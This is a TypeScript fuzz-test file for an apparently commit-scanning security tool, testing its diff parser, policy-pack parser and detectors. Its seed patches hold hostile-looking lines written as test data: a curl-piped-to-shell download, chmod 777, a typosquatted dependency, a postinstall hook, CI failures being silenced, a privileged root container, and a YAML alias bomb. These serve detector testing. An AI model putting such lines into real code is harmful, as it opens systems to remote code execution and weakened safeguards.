import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { allDetectors } from '../../src/detectors/index.js';
import { changeFromUnifiedDiff } from '../../src/diff/unified.js';
import { scanCommit } from '../../src/engine/scan-commit.js';
import type { CommitChange } from '../../src/model/types.js';
import { defaultPolicy } from '../../src/packs/load.js';
import { ConfigError } from '../../src/errors.js';
import { DiffParser } from '../../src/git/diff-parser.js';
import { parsePack } from '../../src/packs/validate.js';
import { mutate, seededRandom } from '../helpers/fuzz.js';
import { GIT_ENV, TestRepo } from '../helpers/repo.js';

// Seeded fuzzing of the parsers that read input the party under review
// controls. Each case must either parse or raise an Error with a message.
// A hang, a non-Error throw or an error without a message fails the run.
const CASES = 400;

/** Builds a one-hunk patch; lines start with '+', '-' or nothing (context). */
function patchOf(path: string, lines: string[]): string {
  const body = lines.map((l) => (l.startsWith('+') || l.startsWith('-') ? l : ` ${l}`));
  const oldCount = body.filter((l) => !l.startsWith('+')).length;
  const newCount = body.filter((l) => !l.startsWith('-')).length;
  return [`diff --git a/${path} b/${path}`, `--- a/${path}`, `+++ b/${path}`, `@@ -1,${oldCount} +1,${newCount} @@`, ...body, ''].join('\n');
}

function expectCleanFailure(run: () => unknown): 'parsed' | 'rejected' {
  try {
    run();
    return 'parsed';
  } catch (error) {
    expect(error).toBeInstanceOf(Error);
    expect((error as Error).message.length).toBeGreaterThan(0);
    return 'rejected';
  }
}

describe('parser fuzzing', () => {
  it('diff parser survives mutated git output', () => {
    const repo = TestRepo.init();
    repo.write('a.txt', 'one\ntwo\n').write('b.bin', Buffer.from([0, 1, 10, 2])).commit('root');
    repo.write('a.txt', 'one\n2\r\ntwo\n').write('é.txt', 'x\n').remove('b.bin').commit('second');
    const shas = repo.git('rev-list', '--reverse', 'HEAD').trim().split('\n');
    const output = execFileSync(
      'git',
      ['diff-tree', '--stdin', '--always', '--root', '-z', '-r', '--raw', '-p', '--text', '-M'],
      { cwd: repo.dir, env: GIT_ENV, input: `${shas[0]}\n${shas[1]} ${shas[0]}\n` },
    ).toString('latin1');
    const random = seededRandom(20261204);
    const outcomes = { parsed: 0, rejected: 0 };
    for (let i = 0; i < CASES; i += 1) {
      const input = Buffer.from(mutate(output, random), 'latin1');
      outcomes[
        expectCleanFailure(() => {
          const parser = new DiffParser({ commitHeaders: true, maxFileBytes: 1 << 20, onCommit: () => undefined });
          parser.push(input);
          parser.end();
        })
      ] += 1;
    }
    console.log(`fuzz diff parser: ${CASES} cases, ${outcomes.parsed} parsed, ${outcomes.rejected} rejected`);
    expect(outcomes.parsed + outcomes.rejected).toBe(CASES);
  });

  it('pack parser rejects mutated configs with ConfigError', () => {
    const seed = [
      'extends: [default]',
      'agents:',
      '  - name: bot',
      "    author: '^bot <bot@example\\.com>$'",
      'rules:',
      '  - id: secret',
      '    action: warn',
      "    paths: ['test/**']",
      'settings:',
      '  maxFileBytes: 100000',
      'acknowledged:',
      '  - fingerprint: 0123456789abcdef',
      '    reason: test fixture',
      '',
    ].join('\n');
    const random = seededRandom(7);
    const outcomes = { parsed: 0, rejected: 0 };
    for (let i = 0; i < CASES; i += 1) {
      const text = mutate(seed, random);
      try {
        parsePack(text, 'fuzz.yml');
        outcomes.parsed += 1;
      } catch (error) {
        expect(error).toBeInstanceOf(ConfigError);
        expect((error as Error).message).toMatch(/^fuzz\.yml:\d+:\d+: /);
        outcomes.rejected += 1;
      }
    }
    console.log(`fuzz pack parser: ${CASES} cases, ${outcomes.parsed} parsed, ${outcomes.rejected} rejected`);
  });

  it('pack parser limits YAML alias expansion', () => {
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]'];
    for (let i = 0; i < 8; i += 1) bomb.push(`${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`);
    expect(() => parsePack(bomb.join('\n'), 'bomb.yml')).toThrow(ConfigError);
  });

  it('detectors survive mutated patches', async () => {
    const seeds = [
      patchOf('src/a.ts', ['line one', '-line two', '+line 2', "+it.skip('works', () => {})", ' line four']),
      patchOf('package.json', ['{', '-  "dependencies": { "left-pad": "^1.3.0" }', '+  "dependencies": { "left-pad": "*", "lodahs": "^4.0.0" },', '+  "scripts": { "postinstall": "node x.js" }', '}']),
      patchOf('.github/workflows/ci.yml', ['jobs:', '  test:', '    steps:', '-      - run: npm test', '+      - run: npm test || true', '+        continue-on-error: true']),
      patchOf('deploy/pod.yaml', ['spec:', '  containers:', '  - name: app', '+    securityContext:', '+      privileged: true', '+      runAsUser: 0']),
      patchOf('scripts/run.sh', ['#!/bin/sh', '+chmod 777 /srv', '+curl -k https://example.com/x.sh | sh']),
      patchOf('go.mod', ['module x', '+replace a.b/c v1.0.0 => ../c', '+require evil.example/x v0.0.1']),
    ];
    const detectors = allDetectors();
    const policy = defaultPolicy();
    const random = seededRandom(99);
    const outcomes = { parsed: 0, rejected: 0 };
    for (let i = 0; i < CASES; i += 1) {
      const text = mutate(seeds[i % seeds.length]!, random);
      let change: CommitChange;
      try {
        change = changeFromUnifiedDiff(text);
      } catch (error) {
        expect(error).toBeInstanceOf(Error);
        outcomes.rejected += 1;
        continue;
      }
      outcomes.parsed += 1;
      const agent = { agent: true, matchedBy: ['fuzz'] };
      await expect(scanCommit(change, { policy, detectors, attribution: agent })).resolves.toBeDefined();
    }
    console.log(`fuzz detectors: ${CASES} mutated patches, ${outcomes.parsed} scanned by ${detectors.length} detectors, ${outcomes.rejected} rejected by the reader`);
  });
});
